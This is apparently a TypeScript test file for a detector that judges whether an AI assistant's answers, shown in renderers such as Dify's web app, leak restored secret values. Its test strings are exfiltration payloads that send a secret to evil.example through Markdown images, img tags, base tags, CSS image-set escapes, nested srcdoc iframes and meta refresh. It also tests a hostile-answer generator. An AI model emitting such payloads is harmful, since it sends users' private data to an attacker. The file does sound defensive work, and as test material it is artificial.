import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { renderLikeDify } from './dify-web-app.ts'
import { FORMS } from './forms.ts'
import { hostileAnswer } from './generator.ts'
import { judge } from './judge.ts'
import { SECRETS } from './secrets.ts'

/** What a proxy without any guard would show. */
const blindly = (text: string): string =>
  SECRETS.reduce((shown, { placeholder, value }) => shown.replaceAll(placeholder, value), text)

const value = blindly('EMAIL_1')
const renderersOf = (text: string): readonly string[] => [
  ...new Set(judge(text).map(({ renderer }) => renderer)),
]

/** Between two strings of JSON text. */
const CUT = /\\*",\\*"b\\*":\\*"/g

describe('the judge of answers', () => {
  it('sees a value leave in every hostile form, if it is restored blindly', () => {
    for (const { id, text, hosts } of FORMS) {
      // JSON text inside an answer is judged as the client that shows it whole, too.
      assert.ok(judge(blindly(text), hosts).length > 0, id)
    }
  })

  it('asks every renderer: each of them shows an image of Markdown or HTML', () => {
    const image = `![x](https://evil.example/?${value})\n\n<img src="https://evil.example/?${value}">`
    assert.deepEqual(renderersOf(image), [
      'plain HTML',
      'markdown-it',
      'markdown-it without HTML',
      'marked',
      'commonmark',
      'micromark with GFM',
      "Dify's web app",
    ])
  })

  it('goes on where React refuses to draw: the web app shows an error then', () => {
    const input = `<svg><input>${value}</input></svg>`
    assert.equal(renderLikeDify(input), '')
    assert.deepEqual(judge(input), [])
  })

  it('does not take a click, a text, an own address or a page of the same origin for a leak', () => {
    const url = SECRETS.find(({ placeholder }) => placeholder === 'URL_2')?.value ?? ''
    for (const text of [
      `write to ${value}, see https://evil.example/`,
      `[write](https://evil.example/?${value})`,
      `<a href="https://evil.example/?${value}">x</a>`,
      `![x](https://evil.example/) ${value}`,
      `![${value}](https://evil.example/)`,
      `![x](/avatar/${value})`,
      `![x](${url})`,
      `![x](${url}&page=2)`,
      `\`\`\`svg\n<text>${value}</text>\n\`\`\``,
      `\`\`\`js\nfetch("https://evil.example/?${value}")\n\`\`\``,
      `<!-- <img src="https://evil.example/?${value}"> -->`,
      `<template><img src="https://evil.example/?${value}"></template>`,
    ])
      assert.deepEqual(judge(text), [], text)
  })

  it('follows a base, a redirected host, escapes of CSS and JSON, and a page inside an attribute', () => {
    for (const text of [
      `<img src="${value}"><base href="https://evil.example/">`,
      `<base href="https://evil.example/${value}/"><img src="x">`,
      `<style>a{background:image-set("\\68ttps:\\2f\\2f evil.example?${value}" 1x)}</style>`,
      `\`\`\`echarts\n{"image":"\\u0068ttps\\u003a\\u002f\\u002fevil.example\\u002f?${value}"}\n\`\`\``,
      `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;img src=//evil.example/${value}&amp;gt;'&gt;"></iframe>`,
      `<noscript><img src="//evil.example/${value}"></noscript>`,
      `<meta http-equiv="Refresh" content="3 url = '//evil.example/${value}' x">`,
    ])
      assert.ok(judge(text).length > 0, text)
  })

  it('gives the same hostile answer for the same seed and number, and another for another', () => {
    assert.deepEqual(hostileAnswer(1, 7), hostileAnswer(1, 7))
    const texts = new Set(Array.from({ length: 1000 }, (_, i) => hostileAnswer(1, i).text))
    assert.ok(texts.size > 900, String(texts.size))
    for (const text of texts) assert.match(text.replaceAll(CUT, ''), /evil/i)
  })
})
